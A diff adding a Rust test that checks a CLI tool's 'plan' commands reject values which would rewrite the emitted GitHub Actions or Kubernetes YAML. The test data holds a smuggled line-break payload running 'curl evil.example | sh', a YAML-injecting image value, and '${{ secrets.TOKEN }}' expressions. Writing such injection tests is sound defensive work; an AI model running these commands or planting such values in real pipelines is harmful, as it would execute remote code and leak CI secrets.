@@ -219,3 +219,68 @@ fn a_failed_task_fails_the_batch_and_the_merge_says_what_is_missing() {
     assert_eq!(twice.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&twice.stderr).contains("is in two reports"));
 }
+
+/// A plan is YAML that a CI system or a cluster executes: a line break in a value would end the
+/// shell command and write YAML of the caller's choosing (`batch plan` had no check), `${{`
+/// would be a GitHub Actions expression evaluated with the workflow's secrets, and zero shards
+/// is no plan. Each is refused with exit 2 and nothing on stdout, for both commands.
+#[test]
+fn plans_refuse_values_that_would_rewrite_the_emitted_yaml() {
+    let home = tempfile::tempdir().unwrap();
+    let injected = "b.toml\n      - run: curl evil.example | sh";
+    let cases: Vec<Vec<&str>> = vec![
+        vec![
+            "batch", "plan", injected, "--shards", "2", "--emit", "github",
+        ],
+        vec![
+            "batch", "plan", "b.toml", "--shards", "2", "--emit", "k8s", "--image", "x\ny: 1",
+        ],
+        vec![
+            "batch",
+            "plan",
+            "${{ secrets.TOKEN }}.toml",
+            "--shards",
+            "2",
+            "--emit",
+            "github",
+        ],
+        vec![
+            "eval",
+            "plan",
+            "s.toml",
+            "--shards",
+            "2",
+            "--emit",
+            "github",
+            "-m",
+            "${{ secrets.T }}",
+        ],
+        vec![
+            "eval", "plan", injected, "--shards", "2", "--emit", "github",
+        ],
+        vec![
+            "batch", "plan", "b.toml", "--shards", "0", "--emit", "github",
+        ],
+        vec!["eval", "plan", "s.toml", "--shards", "0", "--emit", "k8s"],
+    ];
+    for args in cases {
+        let out = reins(home.path()).args(&args).output().unwrap();
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {out:?}");
+        assert!(out.stdout.is_empty(), "{args:?}: {out:?}");
+    }
+    let ok = reins(home.path())
+        .args([
+            "batch",
+            "plan",
+            "b.toml",
+            "--shards",
+            "2",
+            "--emit",
+            "k8s",
+            "--image",
+            "ghcr.io/a/b:1",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(ok.status.code(), Some(0), "{ok:?}");
+}
